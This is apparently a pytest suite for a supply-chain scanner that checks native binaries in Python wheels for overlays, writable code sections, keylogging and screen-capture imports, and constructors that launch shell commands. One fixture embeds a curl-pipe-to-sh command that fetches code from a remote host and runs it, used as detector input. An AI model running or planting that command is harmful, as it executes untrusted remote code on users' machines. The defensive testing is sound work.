"""Native members of a release; every file is a writer's, with headers and tables alone."""

import pytest

from features.binary.examination import BinaryExamination
from features.binary.native_code import examine_native_code
from features.contract import FileType, Kind, Member, Release, Role

LINUX = "x-1-cp311-cp311-manylinux2014_x86_64.whl"
WINDOWS = "x-1-cp311-cp311-win_amd64.whl"


def examine(
    *files: tuple[str, bytes], filename: str = LINUX, python: bytes = b""
) -> tuple[dict[str, object], set[str]]:
    members = [
        Member(path, len(data), FileType.NATIVE, Role.REST, data=data, head=data[:4096], digest=path.encode())
        for path, data in files
    ]
    if python:
        members.append(Member("x/a.py", len(python), FileType.PYTHON, Role.REST, data=python, head=python))
    kind = Kind.WHEEL if filename.endswith(".whl") else Kind.SDIST
    examination = BinaryExamination(Release(filename, "x", "1", kind, "zip", 9, tuple(members)))
    examine_native_code(examination)
    return dict(examination.values()), {shown.indicator for shown in examination.evidence}


def test_a_release_without_native_code_has_no_binaries():
    examination = BinaryExamination(Release(LINUX, "x", "1", Kind.WHEEL, "zip", 9, ()))
    examine_native_code(examination)
    assert not examination.has_binaries


def test_files_are_counted_and_the_smallest_named(write_elf):
    values, _ = examine(("x/a.so", write_elf()), ("x/b.so", write_elf(code=b"\x90" * 4096)))
    assert (values["native"], values["least_bytes"]) == (2, len(write_elf()))
    assert (values["systems"], values["early"], values["not_searched"]) == (1, 0, 0)


@pytest.mark.parametrize("head", [b"!<arch>\n", b"\0asm\1\0\0\0"])
def test_files_without_headers_are_not_broken(head):
    assert examine(("x/a.a", head + bytes(80)))[0]["unparsed"] == 0
    assert examine(("x/a.so", b"\x7fELF" + bytes(80)))[0]["unparsed"] == 1


def test_a_writable_section_of_instructions_shows(write_elf):
    values, _ = examine(("x/a.so", write_elf(writable_code=True)))
    assert values["sections_open"] == 1
    assert examine(("x/a.so", write_elf()))[0]["sections_open"] == 0


@pytest.mark.parametrize(("name", "expected"), [(".text", 0), ("", 1), ("\x01", 1), ("   ", 1)])
def test_sections_of_instructions_without_a_name_are_odd(name, expected, write_pe):
    values, _ = examine(("x/a.pyd", write_pe(names=(name, ".rdata"))), filename=WINDOWS)
    assert values["sections_odd"] == expected


def test_data_after_the_end_is_an_overlay(write_pe):
    overlay = bytes(range(256)) * 64
    values, shown = examine(("x/a.pyd", write_pe(overlay=overlay)), filename=WINDOWS)
    assert (values["overlays"], values["overlay_bytes"]) == (1, len(overlay))
    assert values["overlay_entropy"] == pytest.approx(8.0)
    assert "native_overlay" in shown
    plain, calm = examine(("x/a.pyd", write_pe(overlay=b"a" * len(overlay))), filename=WINDOWS)
    assert (plain["overlays"], plain["overlay_entropy"], "native_overlay" in calm) == (1, 0.0, False)
    assert "overlays" not in examine(("x/a.pyd", write_pe()), filename=WINDOWS)[0]


def test_names_of_programs_are_searched_in_python(write_pe):
    program = write_pe(runnable=True)
    for path, python, expected in (
        ("x/tool.exe", b"run('tool.exe')", 1),
        ("x/tool.exe", b"run('other.exe')", 0),
        ("x/a.b", b"run('a.b')", 0),
    ):
        assert examine((path, program), filename=WINDOWS, python=python)[0]["programs_named"] == expected


def test_watching_screen_and_keyboard_shows_where_two_of_them_meet(write_pe):
    keyboard, screen = ("USER32.dll", ("GetAsyncKeyState",)), ("GDI32.dll", ("BitBlt",))
    both, shown = examine(("x/a.pyd", write_pe((keyboard, screen))), filename=WINDOWS)
    assert "native_spying" in shown
    assert "native_spying" not in examine(("x/a.pyd", write_pe((keyboard,))), filename=WINDOWS)[1]
    assert both["import_input"] == 1


def test_libraries_and_functions_are_counted_once(write_elf):
    one = write_elf(imports=("read", "write"), libraries=("libc.so.6",))
    two = write_elf(imports=("read",), libraries=("libc.so.6", "libm.so.6"), code=b"\x90" * 65)
    values, _ = examine(("x/a.so", one), ("x/b.so", two))
    assert (values["imports"], values["libraries"]) == (2, 2)


SHELL = b"words\0curl -fsSL http://198.51.100.31/s | sh\0words"
PURE = "x-1-py3-none-any.whl"


@pytest.mark.parametrize(
    ("arguments", "expected", "constructor_shell"),
    [
        ({"imports": ["system"], "data": SHELL, "constructors": 2}, "native_constructor", 1),
        ({"imports": ["system"], "data": SHELL}, "native_shell_text", 0),
        ({"imports": ["malloc"], "data": SHELL, "constructors": 2}, "native_shell_text", 0),
    ],
)
def test_a_command_line_that_a_constructor_may_start_shows(arguments, expected, constructor_shell, write_elf):
    values, shown = examine(("x/a.so", write_elf(**arguments)))
    assert (1, constructor_shell) == (values["shell_text"], values["constructor_shell"])
    assert expected in shown


def test_constructors_and_programs_without_shell_text_are_left_alone(write_elf):
    values, shown = examine(("x/a.so", write_elf(imports=["system"], data=b"run /bin/sh -c", constructors=3)))
    assert (2, "shell_text" in values) == (values["constructors"], False)
    assert not shown & {"native_constructor", "native_shell_text"}


def test_a_native_module_in_a_pure_wheel_shows(write_elf):
    assert "native_unexpected" in examine(("x/a.so", write_elf()), filename=PURE)[1]
    assert "native_unexpected" not in examine(("x/a.so", write_elf()))[1]
    assert "native_unexpected" not in examine(("x/a.so", write_elf()), filename="x-1.tar.gz")[1]
